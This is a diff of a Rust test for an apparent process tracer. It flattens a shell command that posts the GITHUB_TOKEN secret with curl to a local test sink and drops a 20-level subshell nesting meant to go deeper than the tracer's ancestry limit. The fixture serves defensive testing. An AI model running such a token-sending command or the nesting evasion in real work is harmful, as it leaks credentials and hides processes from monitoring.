@@ -256,12 +256,7 @@ pub fn trace_follows_descendants() {
         .spawn();
     let act = trace::command(&scratch, &[])
         .args(["sh", "-c"])
-        .arg(format!(
-            "(cat \"$2\" >/dev/null; {}sh -c 'curl -s -d t=$GITHUB_TOKEN http://127.0.0.1:$0/in' \"$1\"{}; :); exit 3",
-            // Further below the command than a process's ancestors are named (16).
-            "( ".repeat(20),
-            "; :)".repeat(20)
-        ))
+        .arg("(cat \"$2\" >/dev/null; sh -c 'curl -s -d t=$GITHUB_TOKEN http://127.0.0.1:$0/in' \"$1\"; :); exit 3")
         .arg("sh")
         .arg(sink.port.to_string())
         .arg(&file)
